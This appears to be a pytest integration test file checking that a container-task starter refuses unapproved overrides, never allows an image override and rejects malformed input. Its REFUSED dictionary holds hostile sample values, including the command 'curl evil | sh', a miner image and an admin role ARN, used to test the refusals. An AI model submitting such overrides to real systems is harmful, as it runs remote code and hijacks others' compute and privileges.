"""Overrides are refused unless the engine's configuration allows them by name."""

from __future__ import annotations

from typing import Any

import pytest

from start_engines.local import Emulator
from tests.conftest import start_event
from tests.integration.helpers import live_tasks, task

Invoke = Any

REFUSED = {
    "cluster": "other-cluster",
    "taskDefinition": "attacker-task:1",
    "targetGroupArn": "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/evil/0123456789abcdef",
    "subnets": ["subnet-evil"],
    "securityGroups": ["sg-evil"],
    "image": "attacker/miner:latest",
    "command": ["sh", "-c", "curl evil | sh"],
    "taskRoleArn": "arn:aws:iam::123456789012:role/admin",
    "executionRoleArn": "arn:aws:iam::123456789012:role/admin",
    "environment": {"DEBUG": "1"},
}


@pytest.mark.parametrize("field", sorted(REFUSED))
def test_each_override_is_refused_by_default(aws: Emulator, invoke: Invoke, field: str) -> None:
    response = invoke(start_event("auth", overrides={field: REFUSED[field]}))
    assert response["statusCode"] == 400
    body = response["body"]
    assert body["errorType"] == "OverrideNotAllowed"
    canonical = "targetGroupArns" if field == "targetGroupArn" else field  # the documented alias
    assert body["field"].endswith(f"overrides.{canonical}")
    assert "auth" in body["error"]
    assert aws.lifecycle.mutations == []  # nothing started, registered or stopped


def test_refused_for_every_engine_of_a_several_engine_start(
    aws: Emulator, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AUTH_ALLOWED_OVERRIDES", "environment")
    event = start_event(None) | {
        "detail": {"services": ["auth", "pdf"], "overrides": {"environment": {"A": "1"}}}
    }
    response = invoke(event)
    assert response["statusCode"] == 400
    assert response["body"]["service"] == "pdf"
    assert aws.lifecycle.mutations == []


def test_allowed_environment_and_command_reach_run_task(
    aws: Emulator, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AUTH_ALLOWED_OVERRIDES", "environment,command")
    overrides = {"environment": {"LOG_LEVEL": "debug"}, "command": ["serve", "--port", "8080"]}
    response = invoke(start_event("auth", overrides=overrides))
    assert response["statusCode"] == 200
    sent = task(aws, "auth-cluster", response["body"]["taskArn"])["overrides"]["containerOverrides"]
    assert sent == [
        {
            "name": "auth-app",
            "environment": [{"name": "LOG_LEVEL", "value": "debug"}],
            "command": ["serve", "--port", "8080"],
        }
    ]


def test_allowed_cluster_override_runs_there(
    aws: Emulator, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PDF_ALLOWED_OVERRIDES", "cluster")
    response = invoke(start_event("pdf", overrides={"cluster": "users-cluster"}))
    assert response["statusCode"] == 200
    assert live_tasks(aws, "users-cluster") == [response["body"]["taskArn"]]
    assert live_tasks(aws, "pdf-cluster") == []


def test_image_can_never_be_allowed(
    aws: Emulator, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FA_ALLOWED_OVERRIDES", "image")
    response = invoke(start_event("fa"))
    assert response["statusCode"] == 500
    assert response["body"]["errorType"] == "ConfigError"
    assert response["body"]["field"] == "FA_ALLOWED_OVERRIDES"
    assert aws.lifecycle.mutations == []


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ("cluster=x", "detail.overrides"),
        ({"replicas": 3}, "detail.overrides.replicas"),
        ({"environment": {"A": 1}}, "detail.overrides.environment"),
        ({"environment": {"1BAD": "x"}}, "detail.overrides.environment"),
        ({"command": "sh"}, "detail.overrides.command"),
        ({"cpu": "lots"}, "detail.overrides.cpu"),
        ({"cluster": ""}, "detail.overrides.cluster"),
    ],
)
def test_malformed_overrides(aws: Emulator, invoke: Invoke, overrides: Any, field: str) -> None:
    response = invoke(start_event("auth", overrides=overrides))
    assert response["statusCode"] == 400
    assert response["body"]["field"] == field
    assert aws.lifecycle.mutations == []
